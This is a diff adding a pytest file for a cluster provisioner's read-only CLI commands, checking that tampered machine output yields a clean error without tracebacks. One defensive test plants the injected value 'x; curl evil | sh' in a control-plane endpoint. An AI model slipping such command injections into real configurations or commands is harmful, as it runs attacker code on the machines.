@@ -1,0 +1,68 @@
+"""Commands that only look, when a machine says what no machine says: one error, no trace, nothing obeyed."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from provisioner.core.command import Command, Result
+from provisioner.errors import StepError
+from provisioner.session import Session
+from tests import builders
+from tests.fake.world import World
+from tests.unit.cli.conftest import GOOD, Call, write
+
+
+@pytest.fixture
+def world(call: Call, monkeypatch: pytest.MonkeyPatch) -> World:
+    """A cluster that is up, behind the commands that look."""
+    write("inventory.yaml", GOOD.replace("nowhere-bundle", "auto"))
+    made = World(builders.cluster())
+    assert made.apply().errors == {}
+
+    @contextmanager
+    def session(*arguments: Any, **more: Any) -> Iterator[Session]:
+        yield made.begin()
+
+    monkeypatch.setattr("provisioner.cli.reading.open_session", session)
+    return made
+
+
+def telling(world: World, machine: str, before: str, after: str) -> None:
+    """That machine says something else where it would have said `before`."""
+
+    def twist(name: str, command: Command, result: Result) -> Result:
+        return replace(result, stdout=result.stdout.replace(before, after)) if name == machine else result
+
+    world.twist = twist
+
+
+def test_status_names_the_machine_and_shows_the_others(call: Call, world: World) -> None:
+    telling(world, "w1", "memory_mib=", "memory_mib=many")
+    said = call("status")
+    assert said.code != 0
+    assert "w1: the machine could not be looked at" in said.err
+    assert [line.split()[0] for line in said.out.splitlines()[1:]] == ["cp1", "w1", "w2"]
+    assert "Traceback" not in said.out + said.err
+
+
+def test_facts_of_the_others_are_shown(call: Call, world: World) -> None:
+    telling(world, "w1", "memory_mib=", "memory_mib=x")
+    said = call("facts", "--json")
+    assert said.code == 0
+    assert [json.loads(line)["host"] for line in said.out.splitlines()] == ["cp1", "w2"]
+
+
+def test_a_command_to_paste_holds_no_words_of_the_cluster(call: Call, world: World) -> None:
+    assert call("token").out.startswith("kubeadm join 10.0.0.11:6443 --token ")
+    telling(world, "cp1", "controlPlaneEndpoint: 10.0.0.11:6443", "controlPlaneEndpoint: x; curl evil | sh")
+    said = call("token")
+    assert said.code == StepError.exit_code
+    assert said.out == ""
+    assert "cp1: what this machine has answered could not be processed: ValueError" in said.err
+    assert "Traceback" not in said.err
